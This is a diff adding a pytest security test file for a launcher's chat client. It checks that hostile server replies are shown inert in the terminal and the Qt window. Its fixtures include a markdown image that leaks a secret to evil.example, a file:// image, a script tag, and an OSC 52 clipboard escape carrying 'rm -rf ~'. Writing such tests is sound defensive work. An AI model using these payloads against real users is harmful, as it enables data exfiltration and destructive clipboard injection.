@@ -1,0 +1,206 @@
+"""A reply that means harm, in the terminal and in the window."""
+
+import json
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import QUrl
+from PySide6.QtGui import QDesktopServices, QTextDocument
+from PySide6.QtWidgets import QApplication, QLabel, QWidget
+from pytestqt.qtbot import QtBot
+
+from launcher.base.errors import LauncherError
+from launcher.base.identity import ProcessId
+from launcher.engine.registry import Entry
+from launcher.gui import theme
+from launcher.gui.chat import ChatPane, Text
+from launcher.gui.cockpit import Cockpit
+from launcher.gui.labels import Label, set_tip
+from launcher.gui.viewmodel import Inputs, derive
+from launcher.gui.window import StatusChip
+from tests.security.conftest import ACTING, in_terminal
+from tests.security.test_text import ATTACKS
+
+os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
+MARKDOWN = (
+    "![x](https://evil.example/pixel.png?leak=secret) [bank](https://evil.example)\n"
+    '<img src="file:///etc/hostname"><a href="https://evil.example">click</a>\n'
+    '<img src="//evil.example/share/x.png"><script>alert(1)</script><b>bold</b>\n'
+)
+MEGABYTES = "x" * 10_000_000
+
+
+class TestInTheTerminal:
+    @pytest.fixture
+    def ask(self, home: Path, tmp_path: Path) -> Callable[..., str]:
+        """Asks a server of ours that was replaced by one that means harm, in a terminal or not."""
+
+        def asked(reply: str, *options: str, terminal: bool = True) -> str:
+            file = tmp_path / "reply"
+            file.write_bytes(reply.encode())
+            program = Path(__file__).with_name("hostile_server.py")
+            environment = os.environ | {"REPLY": str(file)}
+            command = [sys.executable, str(program), "reply"]
+            with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, text=True) as server:
+                try:
+                    assert server.stdout
+                    port = int(server.stdout.readline())
+                    us = ProcessId.of(os.getpid())
+                    assert us
+                    url = f"http://127.0.0.1:{port}"
+                    entry = Entry(
+                        url=url, port=port, api_key="k" * 43, pid=us.pid, created_s=us.created_s, model="m",
+                        engine="e", draft=0, state="ready",
+                    )  # fmt: skip
+                    folder = home / "state" / "run" / os.uname().nodename
+                    folder.mkdir(parents=True, exist_ok=True)
+                    (home / "state").chmod(0o700)
+                    folder.chmod(0o700)
+                    (folder / f"server-{port}.json").write_text(entry.model_dump_json())
+                    (folder / f"server-{port}.json").chmod(0o600)
+                    if terminal:
+                        code, told = in_terminal("chat", "hello", "--url", url, *options, home=home)
+                        assert code == 0, told
+                        return told.replace("\r\n", "\n")
+                    run = [sys.executable, "-m", "launcher", "chat", "hello", "--url", url, *options]
+                    return subprocess.run(run, capture_output=True, text=True, encoding="utf-8", check=True).stdout
+                finally:
+                    server.kill()
+
+        return asked
+
+    def test_it_obeys_nothing(self, ask: Callable[..., str]) -> None:
+        written = {name: text for name, text in ATTACKS.items() if name != "half a character"}
+        told = ask("\n".join(written.values()) + "\nyou owe 1000\rnothing\n" + MARKDOWN)
+        assert not ACTING.search(told)
+        assert "\r" not in told
+        assert "␛]52;c;cm0gLXJmIH4=␇" in told
+        assert "owe 1000nothing" in told
+        assert "https://evil.example/pixel.png" in told, "an address is seen whole"
+
+    def test_json_is_safe_on_a_terminal_and_exact(self, ask: Callable[..., str]) -> None:
+        told = ask("\x9b31m\u202egpj\x1b]0;x\x07", "--json")
+        assert not ACTING.search(told)
+        assert json.loads(told)["text"] == "\x9b31m\u202egpj\x1b]0;x\x07"
+
+    def test_a_file_gets_it_as_it_was(self, ask: Callable[..., str]) -> None:
+        assert ask("a\x1b[31m\u200bb", terminal=False) == "a\x1b[31m\u200bb\n"
+
+    def test_ten_megabytes_on_one_line_come_through(self, ask: Callable[..., str]) -> None:
+        began_s = time.monotonic()
+        assert ask(MEGABYTES, terminal=False) == f"{MEGABYTES}\n"
+        assert time.monotonic() - began_s < 20
+
+
+@pytest.fixture
+def pane(qtbot: QtBot, qapp: QApplication) -> ChatPane:
+    theme.apply(qapp, theme.current())
+    pane = ChatPane()
+    qtbot.addWidget(pane)
+    pane.resize(420, 700)
+    pane.show()
+    qtbot.waitExposed(pane)
+    pane.ask("hello")
+    return pane
+
+
+def texts(pane: QWidget) -> list[Text]:
+    return pane.findChildren(Text)
+
+
+class TestInTheWindow:
+    def test_nothing_is_loaded_and_nothing_is_a_link(
+        self, pane: ChatPane, qapp: QApplication, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        loaded: list[str] = []
+
+        def load(self: QTextDocument, kind: int, name: QUrl) -> object:
+            loaded.append(name.toString())
+            return original(self, kind, name)
+
+        original = QTextDocument.loadResource
+        monkeypatch.setattr(QTextDocument, "loadResource", load)
+        monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: loaded.append(url.toString()))
+        pane.add(MARKDOWN, MARKDOWN)
+        pane.end(MARKDOWN)
+        qapp.processEvents()
+        reply = texts(pane)[-1]
+        assert reply.toPlainText() == MARKDOWN, "it is shown as it was written"
+        inside = reply.document().toHtml()
+        assert "&lt;img" in inside
+        assert "<img" not in inside
+        assert "<a " not in inside
+        assert not loaded
+
+    def test_it_does_nothing(self, pane: ChatPane, qapp: QApplication) -> None:
+        for attack in ATTACKS.values():
+            pane.add(attack, attack)
+        qapp.processEvents()
+        for shown in texts(pane):
+            assert not ACTING.search(shown.toPlainText())
+
+    def test_the_conversation_keeps_what_was_said(self, pane: ChatPane) -> None:
+        pane.add("a\x1b[31m" + "y" * 5_000, "")
+        pane.end("")
+        assert pane.messages[-1] == {"role": "assistant", "content": "a\x1b[31m" + "y" * 5_000}
+
+    @pytest.mark.parametrize("letters", ["x", "\u0301", "lorem ipsum ", "\u202e\x1b", "👩‍👩‍👧‍👦"])
+    def test_ten_megabytes_on_one_line_do_not_stall_it(self, pane: ChatPane, qapp: QApplication, letters: str) -> None:
+        reply = (letters * (10_000_000 // len(letters) + 1))[:10_000_000]
+        longest_s = 0.0
+        for part in [reply[begin : begin + 500_000] for begin in range(0, len(reply), 500_000)]:
+            began_s = time.perf_counter()
+            pane.add(part, "")
+            longest_s = max(longest_s, time.perf_counter() - began_s)
+        deadline_s = time.monotonic() + 20
+        while texts(pane)[-1]._waiting and time.monotonic() < deadline_s:
+            began_s = time.perf_counter()
+            qapp.processEvents()
+            longest_s = max(longest_s, time.perf_counter() - began_s)
+        assert longest_s < 0.25, "a machine that is busy with other tests; alone it is some 20 ms"
+        shown = texts(pane)[-1].toPlainText()
+        assert "is not shown" in shown
+        assert len(shown) < 410_000
+        pane.end("")
+        assert pane.messages[-1]["content"] == reply
+
+    def test_no_label_takes_text_for_html(self, pane: ChatPane, qtbot: QtBot) -> None:
+        cockpit, chip = Cockpit(), StatusChip()
+        for widget in (cockpit, chip):
+            qtbot.addWidget(widget)
+        labels = [label for widget in (pane, cockpit, chip) for label in widget.findChildren(QLabel)]
+        assert len(labels) > 20
+        assert [label for label in labels if not isinstance(label, Label)] == []
+
+    def test_a_models_name_is_plain_in_chip_and_tip(self, qtbot: QtBot) -> None:
+        chip = StatusChip()
+        qtbot.addWidget(chip)
+        chip.show_view(derive(Inputs(model='<img src="//evil.example/x">\x1b\u202e\nFORGED')))
+        tips = [label.toolTip() for label in chip.findChildren(QLabel) if "evil" in label.toolTip()]
+        assert len(tips) == 1
+        document = QTextDocument()
+        document.setHtml(tips[0])
+        assert '<img src="//evil.example/x">' in document.toPlainText()
+        assert "<img" not in tips[0]
+        assert not ACTING.search(tips[0])
+
+    def test_a_tip_says_what_it_is_given(self, qtbot: QtBot) -> None:
+        widget = QWidget()
+        qtbot.addWidget(widget)
+        set_tip(widget, "<b>5 < 6 & 7</b>\nsecond")
+        document = QTextDocument()
+        document.setHtml(widget.toolTip())
+        assert document.toPlainText() == "<b>5 < 6 & 7</b>\u2028second".replace("\u2028", "\n")
+        set_tip(widget, "")
+        assert widget.toolTip() == ""
+
+    def test_an_error_is_one_line(self) -> None:
+        view = derive(Inputs(problem=LauncherError("\x1b[2Jno\nFORGED <img src=x> " + "x" * 10_000)))
+        assert not ACTING.search(view.problem)
+        assert "\n" not in view.problem
+        assert len(view.problem) <= 2_000
